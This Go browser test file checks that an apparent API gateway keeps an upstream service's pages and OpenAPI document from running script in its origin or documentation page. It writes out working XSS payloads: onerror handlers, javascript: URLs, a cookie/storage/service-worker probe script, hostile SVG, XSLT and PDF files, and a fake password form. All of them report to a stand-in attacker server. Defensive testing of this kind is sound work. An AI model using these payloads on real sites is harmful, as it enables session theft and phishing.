//go:build browser

package browser

import (
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fountainai/fountain/clients/fountain"
	"github.com/fountainai/fountain/clients/kms"
	"github.com/fountainai/fountain/tests/harness"
)

const password = "a heron at the harbour"

// witness is the attacker's own server: whatever a page manages to do, it tells by a request there.
type witness struct {
	URL string
	mu  sync.Mutex
	got []string // "page/deed"
}

func newWitness(t *testing.T) *witness {
	w := &witness{}
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.got = append(w.got, strings.TrimPrefix(r.URL.Path, "/"))
	}))
	t.Cleanup(server.Close)
	w.URL = server.URL
	return w
}

// deeds returns what a page has done.
func (w *witness) deeds(page string) []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []string
	for _, one := range w.got {
		if deed, found := strings.CutPrefix(one, page+"/"); found && !slices.Contains(out, deed) {
			out = append(out, deed)
		}
	}
	slices.Sort(out)
	return out
}

// script does in a page what an attacker wants, and tells PAGE/deed to the witness for each that it could.
const script = `(async () => {
  const tell = (deed) => fetch("WITNESS/PAGE/" + deed, {mode: "no-cors", keepalive: true});
  tell("ran");
  try { document.cookie = "evil=1; path=/"; if (document.cookie.includes("evil")) tell("cookie"); } catch {}
  try { localStorage.setItem("evil", "1"); tell("storage"); } catch {}
  for (const [deed, path] of [["docs", "/docs"], ["services", "/gateway/v1/services"]]) {
    try { const answer = await fetch(path, {credentials: "include"}); if (answer.ok && (await answer.text()).length) tell(deed); } catch {}
  }
  try { await navigator.serviceWorker.register("worker.js"); tell("worker"); } catch {}
  tell("end");
})()`

// allDeeds is what the script does where nothing hinders it.
var allDeeds = []string{"cookie", "docs", "end", "ran", "services", "storage", "worker"}

const (
	hostileHTML = `<!doctype html><title>Hello</title><meta http-equiv="refresh" content="3;url=WITNESS/PAGE/refresh"><link rel="stylesheet" href="WITNESS/PAGE/style">
<body onload="fetch('WITNESS/PAGE/onload',{mode:'no-cors'})"><img src="WITNESS/PAGE/image"><script>SCRIPT</script><script src="worker.js"></script>
<iframe srcdoc="<script>parent.fetch('WITNESS/PAGE/frame',{mode:'no-cors'})</script>"></iframe><form action="WITNESS/PAGE/form"></form></body>`
	hostileXHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script><![CDATA[SCRIPT]]></script></body></html>`
	hostileSVG   = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[SCRIPT]]></script></svg>`
	hostileXML   = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><a/>`
	hostileSheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>SCRIPT</script></body></html></xsl:template></xsl:stylesheet>`
	hostilePDF   = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('WITNESS/PAGE/pdf'))>>>>endobj\n" +
		"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n"
)

// pages are what the adopted service answers, by name: a media type and a text.
var pages = map[string][2]string{
	"html": {"text/html; charset=utf-8", hostileHTML}, "xhtml": {"application/xhtml+xml", hostileXHTML}, "svg": {"image/svg+xml", hostileSVG},
	"xml": {"application/xml", hostileXML}, "textxml": {"text/xml", hostileXML}, "sheet.xsl": {"text/xsl", hostileSheet}, "pdf": {"application/pdf", hostilePDF},
	"json": {"application/json", `{"a":"<script>SCRIPT</script>"}`}, "problem": {"application/problem+json", hostileHTML}, "text": {"text/plain", hostileHTML},
	"bytes": {"application/octet-stream", hostileHTML}, "unknown": {"x/y", hostileHTML}, "worker.js": {"text/javascript", `if (self.document) fetch("WITNESS/PAGE/subresource", {mode: "no-cors"})`},
}

// running are the pages whose script runs where nothing hinders it.
var running = []string{"html", "xhtml", "svg"}

// stranger is the attacker's service. As a page of its own it has what the family's origin has, so that what its scripts do there is seen.
func stranger(t *testing.T, w *witness) string {
	server := httptest.NewServer(http.HandlerFunc(func(to http.ResponseWriter, r *http.Request) {
		at, name := filepath.Split(r.URL.Path)
		page, there := pages[name]
		if !there || at != "/pages/" {
			_, _ = io.WriteString(to, "ok")
			return
		}
		who := "direct-" + name
		if r.Header.Get("X-Forwarded-Prefix") != "" {
			who = "guarded-" + name
		}
		h := to.Header()
		h.Set("Content-Type", page[0])
		for field, value := range map[string]string{
			"Set-Cookie": "evil=1; Path=/", "Service-Worker-Allowed": "/", "Refresh": "3; url=" + w.URL + "/" + who + "/refresh", "Link": "<" + w.URL + "/" + who + "/link>; rel=preload; as=image",
			"Content-Security-Policy": "sandbox allow-scripts allow-same-origin", "Access-Control-Allow-Origin": "*",
		} {
			h.Set(field, value)
		}
		_, _ = io.WriteString(to, strings.NewReplacer("WITNESS", w.URL, "PAGE", who).Replace(strings.ReplaceAll(page[1], "SCRIPT", script)))
	}))
	t.Cleanup(server.Close)
	return server.URL
}

// hostileDocument is the attacker's document: what it says is shown by /docs.
const hostileDocument = `openapi: 3.0.3
info:
  title: 'Hostile <img src=WITNESS/guarded-docs/title onerror="fetch(''WITNESS/guarded-docs/ran'')">'
  version: '1<script>fetch("WITNESS/guarded-docs/ran")</script>'
  termsOfService: 'javascript:fetch("WITNESS/guarded-docs/ran")'
  contact: {name: me, url: 'javascript:fetch("WITNESS/guarded-docs/ran")', email: 'a@b"onclick="x'}
  license: {name: none, url: 'javascript:fetch("WITNESS/guarded-docs/ran")'}
  description: |
    <script>fetch("WITNESS/guarded-docs/ran")</script><img src=x onerror='fetch("WITNESS/guarded-docs/ran")'>
    <script src="/hostile/pages/worker.js"></script><link rel=stylesheet href="/hostile/pages/html">
    [click](javascript:fetch("WITNESS/guarded-docs/ran")) <a href="jav&#x09;ascript:fetch(1)">b</a> <svg onload='fetch("WITNESS/guarded-docs/ran")'/>
    <iframe src="/hostile/pages/html"></iframe><form action="WITNESS/guarded-docs/form"><button>Sign in</button><input name=password></form>
    ![](WITNESS/guarded-docs/image) <style>@import "WITNESS/guarded-docs/style"; body{background:url(WITNESS/guarded-docs/background)}</style>
externalDocs: {description: more, url: 'javascript:fetch("WITNESS/guarded-docs/ran")'}
servers: [{url: 'https://evil.example/'}, {url: 'javascript:fetch("WITNESS/guarded-docs/ran")//'}]
tags: [{name: pages, description: '<img src=x onerror=fetch("WITNESS/guarded-docs/ran")>', externalDocs: {url: 'javascript:fetch("WITNESS/guarded-docs/ran")'}}]
paths:
  /pages/{name}:
    get:
      operationId: getPage
      tags: [pages]
      summary: '<img src=x onerror=fetch("WITNESS/guarded-docs/ran")>'
      description: '<script>fetch("WITNESS/guarded-docs/ran")</script>'
      externalDocs: {url: 'javascript:fetch("WITNESS/guarded-docs/ran")'}
      x-evil: '<img src=x onerror=fetch("WITNESS/guarded-docs/ran")>'
      security: []
      servers: [{url: 'https://evil.example/'}]
      parameters: [{name: name, in: path, required: true, description: '<script>fetch("WITNESS/guarded-docs/ran")</script>', schema: {type: string, maxLength: 40, example: '"><img src=x onerror=fetch(1)>'}}]
      responses: {'200': {description: '<img src=x onerror=fetch("WITNESS/guarded-docs/ran")>', content: {'*/*': {}}}}
components:
  schemas: {A: {type: object, title: '<img src=x onerror=fetch("WITNESS/guarded-docs/ran")>', properties: {'<script>': {type: string, default: '</script><script>fetch("WITNESS/guarded-docs/ran")</script>'}}}}
`

// adopt runs a family, and adopts the service with the operator's leave to answer with whatever it likes.
func adopt(t *testing.T, service string, w *witness) (gateway string) {
	dir := filepath.Join(t.TempDir(), "data")
	p := harness.StartProcess(t, dir)
	t.Cleanup(p.Stop)
	admin := p.Bootstrap(dir, "ada", password, fountain.WithRetry(fountain.RetryPolicy{MaxAttempts: 1}))
	_, err := admin.KMS.RegisterService(t.Context(), kms.ServiceCreate{Name: "hostile", Scopes: []string{}, DeclaredScopes: &[]string{"hostile:read", "hostile:write"}})
	require.NoError(t, err)
	active := true
	_, err = admin.KMS.PutContract(t.Context(), "hostile", kms.ContractPut{
		File: "hostile.yaml", Files: []kms.ContractFile{{Name: "hostile.yaml", Text: strings.ReplaceAll(hostileDocument, "WITNESS", w.URL)}}, Upstreams: &[]string{service},
		Public: &[]string{"getPage"}, ActiveContent: &active,
	}, fountain.WithIfNoneMatch())
	require.NoError(t, err)
	require.Eventually(t, func() bool {
		res, err := http.Get(p.URL + "/hostile/pages/text")
		if err != nil {
			return false
		}
		defer res.Body.Close()
		return res.StatusCode == http.StatusOK
	}, time.Minute, 10*time.Millisecond)
	return p.URL
}

// What an adopted service answers can't act in the origin of the family's pages, even where the operator lets it answer with active content: no script of it
// runs, and nothing is loaded that it names. The same pages do all of it in an origin of their own.
func TestBrowser_whatMembersAnswerDoesNothing(t *testing.T) {
	w := newWitness(t)
	service := stranger(t, w)
	gateway := adopt(t, service, w)
	browser := start(t, []string{gateway, service, w.URL})
	for name := range pages {
		browser.open(gateway + "/hostile/pages/" + name)
	}
	for name := range pages { // by another name than the gateway's, for ports share cookies; after the others: what has its end here, those have had the time for too
		browser.open(service + "/pages/" + name)
	}
	for _, name := range running {
		require.Eventually(t, func() bool { return slices.Contains(w.deeds("direct-"+name), "end") }, patience, 10*time.Millisecond, name)
		for _, deed := range allDeeds {
			require.Contains(t, w.deeds("direct-"+name), deed, name)
		}
	}
	for _, deed := range []string{"refresh", "style", "image", "onload", "frame", "subresource"} {
		require.Eventually(t, func() bool {
			return slices.Contains(w.deeds("direct-html"), deed) || slices.Contains(w.deeds("direct-worker.js"), deed)
		}, patience, 10*time.Millisecond, deed)
	}
	for name := range pages {
		require.Empty(t, w.deeds("guarded-"+name), name)
	}
	docs := browser.open(gateway + "/docs")
	require.Equal(t, "", browser.evaluate(docs, "document.cookie"))
	require.Equal(t, 0.0, browser.evaluate(docs, "localStorage.length"))
	require.Equal(t, 0.0, browser.evaluate(docs, "navigator.serviceWorker.getRegistrations().then(all => all.length)"))
}

// The documentation page shows what the document of an adopted service says, and runs none of it: no script, no reference that is one, nothing loaded from
// elsewhere, no form that sends what is typed into it.
func TestBrowser_documentsOfMembersDoNothingInTheDocumentationPage(t *testing.T) {
	w := newWitness(t)
	gateway := adopt(t, stranger(t, w), w)
	browser := start(t, []string{gateway})
	docs := browser.open(gateway + "/docs")
	require.Equal(t, true, browser.evaluate(docs, `(async () => {
		const until = async (there) => { for (let i = 0; i < 600 && !there(); i++) await new Promise((go) => setTimeout(go, 100)); return there(); };
		await until(() => window.ui);
		ui.specActions.updateUrl("/openapi/hostile.yaml");
		ui.specActions.download("/openapi/hostile.yaml");
		if (!await until(() => document.querySelector("#operations-pages-getPage button"))) return "no operation";
		document.querySelector("#operations-pages-getPage button").click();
		if (!await until(() => document.querySelector("#operations-pages-getPage .opblock-body"))) return "no description";
		document.querySelectorAll(".models-control, .model-toggle, .try-out__btn").forEach((one) => one.click());
		for (const one of document.querySelectorAll(".info *, .opblock *")) one.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
		await new Promise((go) => setTimeout(go, 500));
		return document.body.textContent.includes("Hostile");
	})()`))
	require.Empty(t, browser.evaluate(docs, `[...document.querySelectorAll("[href], [src], [action], [formaction]")].flatMap((one) => ["href", "src", "action", "formaction"]
		.map((name) => one.getAttribute(name)).filter((value) => value && /^[^a-z]*(javascript|vbscript):/i.test(value)))`), "references that are scripts")
	require.Empty(t, browser.evaluate(docs, `[...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on")))`), "handlers")
	require.Empty(t, browser.evaluate(docs, `[...document.querySelectorAll("iframe, object, embed, #swagger-ui script, #swagger-ui link, #swagger-ui meta, .info form, .markdown form, .markdown input")].map((one) => one.outerHTML)`))
	require.Empty(t, w.deeds("guarded-docs"))
}
